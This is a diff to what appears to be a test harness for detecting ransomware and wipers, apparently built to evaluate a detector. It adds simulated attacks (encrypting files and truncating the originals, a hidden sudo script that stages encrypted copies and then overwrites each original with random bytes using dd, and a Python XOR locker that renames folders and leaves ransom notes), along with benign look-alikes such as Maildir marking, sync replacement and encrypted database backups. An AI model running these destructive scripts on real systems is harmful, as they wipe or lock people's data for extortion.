@@ -1683,3 +1683,166 @@ sc_b62_ssh_venv_pip_local_wheels() {
   sshx tomas 'cd ~/proj-web && python3 -m venv .venv && .venv/bin/pip install -q --no-index --find-links /usr/share/python-wheels -r requirements.txt && find .venv -type f | wc -l'
   rm -rf /home/tomas/proj-web
 }
+
+# ---- sixteenth batch: originals destroyed by truncation (left as empty files), a wiper-style finish (encrypted copies
+# in a staging folder, then each original overwritten with random bytes of the same size by dd), a locker that
+# encrypts every file in place and then renames the folders instead of the files
+sc_h48_ssh_openssl_truncate_originals() {
+  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
+  sshx priya 'cd ~/work && find . -type f | while read -r f; do openssl enc -aes-256-cbc -pbkdf2 -salt -pass pass:Tr0-77ab -in "$f" -out "$f.trnc" && truncate -s 0 "$f"; done; find . -type d | while read -r d; do echo "Originals are gone. Mail trnc@onionmail.example" > "$d/TRNC-RESTORE.txt"; done; echo ok'
+}
+pre_h49_ssh_sudo_staging_dd_wipe() {
+  install -d -m 755 /usr/local/lib/.wpr
+  cat > /usr/local/lib/.wpr/w.sh <<'S'
+#!/bin/bash
+stg=/var/tmp/.wpr-stage; mkdir -p "$stg"
+cd /srv/nas/share
+find . -type f | while read -r f; do
+  d="$stg/$(dirname "$f")"; mkdir -p "$d"
+  openssl enc -aes-256-ctr -pbkdf2 -pass pass:Wp9-e0c1 -in "$f" -out "$d/$(basename "$f").wpr"
+done
+find . -type f | while read -r f; do
+  s=$(stat -c %s "$f")
+  dd if=/dev/urandom of="$f" bs="$s" count=1 iflag=fullblock conv=notrunc status=none
+done
+find . -type d | while read -r d; do echo "Your files were taken and wiped. wpr@proton.example" > "$d/WPR-README.txt"; done
+S
+  chmod 755 /usr/local/lib/.wpr/w.sh; rm -rf /var/tmp/.wpr-stage
+}
+sc_h49_ssh_sudo_staging_dd_wipe() {
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
+  sshx mkowalski 'sudo /usr/local/lib/.wpr/w.sh; echo ok'
+  echo "staged $(find /var/tmp/.wpr-stage -type f | wc -l)" >> $CASE/facts
+  rm -rf /usr/local/lib/.wpr /var/tmp/.wpr-stage
+}
+pre_h50_ssh_sudo_python_rename_dirs() {
+  install -d -m 755 /opt/.idx
+  cat > /opt/.idx/dl.py <<'P'
+import os, sys
+KEY = bytes.fromhex('5ac3e1097d2b44f08e61a9d3370cbb12')
+NOTE = 'DIRLOCK-README.txt'
+for top in sys.argv[1:]:
+    for root, dirs, files in os.walk(top):
+        for n in files:
+            p = os.path.join(root, n)
+            fd = os.open(p, os.O_RDWR)
+            data = os.pread(fd, os.fstat(fd).st_size, 0)
+            os.pwrite(fd, bytes(b ^ KEY[i % 16] for i, b in enumerate(data)), 0)
+            os.fsync(fd); os.close(fd)
+        with open(os.path.join(root, NOTE), 'w') as f: f.write('Folders locked. dirlock@onionmail.example\n')
+    for root, dirs, files in os.walk(top, topdown=False):   # the folders, deepest first, not the files
+        if root != top: os.rename(root, root + '.locked')
+P
+  chmod 644 /opt/.idx/dl.py
+}
+sc_h50_ssh_sudo_python_rename_dirs() {
+  echo "files $(find /srv/nas/share /var/www/shop/uploads -type f | wc -l) dirs $(find /srv/nas/share /var/www/shop/uploads -type d | wc -l) renamed-dirs $(find /srv/nas/share /var/www/shop/uploads -mindepth 1 -type d | wc -l)" > $CASE/facts
+  sshx deploy 'sudo python3 /opt/.idx/dl.py /srv/nas/share /var/www/shop/uploads; echo ok'
+  rm -rf /opt/.idx
+}
+
+# ---- sixteenth batch, look-alikes: a mail sync marking 320 Maildir messages read (`:2,` renamed `:2,S`), a sync tool's
+# atomic replace of 200 files through `.syncthing.F.tmp`, `7z x -aoa` of a password archive over the existing tree, a
+# nightly database dump encrypted with `gpg -c`, the plain dump and the encrypted dumps older than 3 days deleted
+pre_b63_ssh_maildir_mark_read() {
+  rm -rf /home/priya/Maildir
+  python3 - <<'PY'
+import os, random
+r = random.Random(63)
+for box in ['INBOX', 'INBOX.lists', 'INBOX.work']:
+    for sub in ['cur', 'new', 'tmp']: os.makedirs(f'/home/priya/Maildir/{box}/{sub}', exist_ok=True)
+    for i in range(110):
+        t = 1796000000 + r.randint(0, 600000)
+        with open(f'/home/priya/Maildir/{box}/cur/{t}.M{r.randint(1,999999)}P{r.randint(100,9999)}.ws-priya:2,', 'w') as f:
+            f.write(f'From: list{i}@example.org\nSubject: msg {i}\n\n' + 'x' * r.randint(200, 4000) + '\n')
+PY
+  cat > /home/priya/.mailsync.py <<'P'
+# what mbsync/offlineimap do when the server says the messages were read: rename each `:2,` to `:2,S`
+import os, sys
+n = 0
+for box in sorted(os.listdir(os.path.expanduser('~/Maildir'))):
+    cur = os.path.expanduser(f'~/Maildir/{box}/cur')
+    for m in sorted(os.listdir(cur)):
+        if m.endswith(':2,'):
+            os.rename(os.path.join(cur, m), os.path.join(cur, m + 'S')); n += 1
+print('marked', n)
+P
+  chown -R priya: /home/priya/Maildir /home/priya/.mailsync.py
+}
+sc_b63_ssh_maildir_mark_read() {
+  sshx priya 'python3 ~/.mailsync.py' | tee $CASE/facts
+  rm -rf /home/priya/Maildir /home/priya/.mailsync.py
+}
+pre_b64_ssh_syncthing_atomic_replace() {
+  rm -rf /home/tomas/Sync; mkdir -p /home/tomas/Sync/shared/{docs,sheets,photos,notes}
+  python3 - <<'PY'
+import os, random
+r = random.Random(64)
+for i in range(200):
+    d = r.choice(['docs', 'sheets', 'photos', 'notes'])
+    with open(f'/home/tomas/Sync/shared/{d}/file_{i:03d}' + r.choice(['.odt', '.ods', '.jpg', '.md']), 'wb') as f: f.write(os.urandom(r.randint(1000, 30000)))
+PY
+  cat > /home/tomas/.sync-pull.py <<'P'
+# a sync tool pulling a newer version of every file: written to .syncthing.NAME.tmp beside it, fsync'd, renamed over it
+import os, sys
+n = 0
+for root, dirs, files in os.walk(os.path.expanduser('~/Sync/shared')):
+    for name in files:
+        if name.startswith('.syncthing.'): continue
+        tmp = os.path.join(root, f'.syncthing.{name}.tmp')
+        fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
+        os.write(fd, os.urandom(os.path.getsize(os.path.join(root, name)) + 17)); os.fsync(fd); os.close(fd)
+        os.rename(tmp, os.path.join(root, name)); n += 1
+print('replaced', n)
+P
+  chown -R tomas: /home/tomas/Sync /home/tomas/.sync-pull.py
+}
+sc_b64_ssh_syncthing_atomic_replace() {
+  sshx tomas 'python3 ~/.sync-pull.py' | tee $CASE/facts
+  rm -rf /home/tomas/Sync /home/tomas/.sync-pull.py
+}
+pre_b65_ssh_7z_x_aoa_password_over() {
+  rm -rf /home/mkowalski/restore; mkdir -p /home/mkowalski/restore
+  (cd /home/mkowalski && 7z a -bd -p'Rst-2026!' -mhe=on restore/documents-2026-12-01.7z Documents >/dev/null)
+  find /home/mkowalski/Documents -type f -name '*.txt' -exec sh -c 'echo edited >> "$1"' _ {} \;
+  chown -R mkowalski: /home/mkowalski/restore /home/mkowalski/Documents
+}
+sc_b65_ssh_7z_x_aoa_password_over() {
+  echo "files $(find /home/mkowalski/Documents -type f | wc -l)" > $CASE/facts
+  sshx mkowalski 'cd ~ && 7z x -bd -aoa -p"Rst-2026!" restore/documents-2026-12-01.7z >/dev/null && echo restored'
+  rm -rf /home/mkowalski/restore
+}
+pre_b66_cron_pgdump_gpg_rotate() {
+  rm -rf /srv/db; mkdir -p /srv/db/dumps
+  for d in 1 2 3 4 5 6; do day=$(date -d "$d days ago" +%F); head -c 40000 /dev/urandom > /srv/db/dumps/shop-$day.sql.gpg; touch -d "$d days ago" /srv/db/dumps/shop-$day.sql.gpg; done
+  cat > /usr/local/bin/shopdb-dump <<'P'
+#!/usr/bin/python3
+# stands for pg_dump: the whole schema and rows as SQL on stdout
+import random, sys
+r = random.Random()
+w = sys.stdout.write
+w('-- shop database dump\nSET client_encoding = \'UTF8\';\nCREATE TABLE orders (id int, customer text, total numeric);\n')
+for i in range(20000): w(f"INSERT INTO orders VALUES ({i}, 'cust{r.randint(1,5000)}', {r.randint(100,99999)/100});\n")
+P
+  chmod 755 /usr/local/bin/shopdb-dump
+  cat > /usr/local/sbin/shopdb-backup <<'S'
+#!/bin/sh
+set -e
+cd /srv/db/dumps
+f=shop-$(date +%F).sql
+/usr/local/bin/shopdb-dump > "$f"
+gpg --batch --yes --pinentry-mode loopback --passphrase-file /srv/db/.backup-pass -c -o "$f.gpg" "$f"
+rm -f "$f"
+find /srv/db/dumps -name 'shop-*.sql.gpg' -mtime +3 -delete
+S
+  chmod 755 /usr/local/sbin/shopdb-backup; echo 'db-backup-pass-77' > /srv/db/.backup-pass; chmod 600 /srv/db/.backup-pass
+  chown -R svc-nas: /srv/db
+}
+sc_b66_cron_pgdump_gpg_rotate() {
+  rm -f /tmp/.b66-done
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * svc-nas /usr/local/sbin/shopdb-backup; touch /tmp/.b66-done" > /etc/cron.d/shopdb-backup
+  for i in $(seq 150); do [ -f /tmp/.b66-done ] && break; sleep 1; done; sleep 2; rm -f /etc/cron.d/shopdb-backup
+  echo "dumps-left $(ls /srv/db/dumps | wc -l): $(ls /srv/db/dumps | tr '\n' ' ')" >> $CASE/facts
+  rm -rf /srv/db /usr/local/bin/shopdb-dump /usr/local/sbin/shopdb-backup
+}
